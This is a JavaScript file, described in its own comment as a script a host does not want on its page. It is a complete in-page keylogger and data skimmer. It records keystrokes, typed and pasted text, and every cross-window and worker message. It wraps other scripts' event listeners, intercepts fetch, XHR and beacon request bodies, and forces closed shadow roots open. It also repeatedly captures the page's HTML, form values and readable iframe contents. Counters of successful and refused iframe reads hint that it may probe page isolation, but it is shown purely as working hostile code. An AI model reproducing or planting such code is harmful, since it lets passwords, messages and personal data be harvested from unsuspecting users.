// A script that a host doesn't want on its page. It runs first, and writes down all that it can get.

window.stolen = [];
window.keys = '';

const take = (what) => {
  try {
    window.stolen.push(typeof what === 'string' ? what : JSON.stringify(what));
  } catch {
    window.stolen.push(String(what));
  }
};

// Keys, one by one, and what is typed or pasted.
for (const type of ['keydown', 'keypress', 'keyup', 'beforeinput', 'input', 'change', 'paste']) {
  window.addEventListener(
    type,
    (event) => {
      if (type === 'keydown' && event.key.length === 1) window.keys += event.key;
      take([event.key, event.data, event.target?.value, event.clipboardData?.getData('text')]);
    },
    true,
  );
}

// Every message, wherever it is sent and received.
const overhear = (event) => take(event.data);
window.addEventListener('message', overhear, true);
for (const { prototype } of [Window, MessagePort, BroadcastChannel, Worker]) {
  const { postMessage } = prototype;
  if (!postMessage) continue;
  prototype.postMessage = function (...args) {
    take(args[0]);
    return Reflect.apply(postMessage, this, args);
  };
}
const Channel = window.MessageChannel;
window.MessageChannel = class extends Channel {
  constructor() {
    super();
    this.port1.addEventListener('message', overhear);
    window.ports = [...(window.ports ?? []), this.port1];
  }
};

// Listeners of others.
const { addEventListener } = EventTarget.prototype;
EventTarget.prototype.addEventListener = function (type, listener, options) {
  const spying =
    typeof listener === 'function'
      ? function (event) {
          take([event.key, event.data, event.target?.value]);
          return Reflect.apply(listener, this, [event]);
        }
      : listener;
  return Reflect.apply(addEventListener, this, [type, spying, options]);
};

// Requests.
const { fetch } = window;
window.fetch = (...args) => {
  take(args);
  take(args[1]?.body);
  return fetch(...args);
};
const { send } = XMLHttpRequest.prototype;
XMLHttpRequest.prototype.send = function (body) {
  take(body);
  return Reflect.apply(send, this, [body]);
};
const { sendBeacon } = navigator;
navigator.sendBeacon = (...args) => {
  take(args);
  return Reflect.apply(sendBeacon, navigator, args);
};

// Shadow roots that others close.
const roots = [document];
const { attachShadow } = Element.prototype;
Element.prototype.attachShadow = function (options) {
  const root = Reflect.apply(attachShadow, this, [{ ...options, mode: 'open' }]);
  roots.push(root);
  return root;
};

// The page, again and again, with all its fields and frames.
function walk(root) {
  take(root.documentElement?.outerHTML ?? root.innerHTML);
  for (const field of root.querySelectorAll('input, textarea, select')) take(field.value);
  for (const frame of root.querySelectorAll('iframe')) {
    for (const read of [
      () => walk(frame.contentDocument),
      () => walk(frame.contentWindow.document),
      () => take(frame.contentWindow.location.href),
      () => take(frame.contentWindow.name),
    ]) {
      try {
        read();
        window.reads = (window.reads ?? 0) + 1;
      } catch {
        window.refusals = (window.refusals ?? 0) + 1;
      }
    }
  }
}
setInterval(() => roots.forEach(walk), 20);
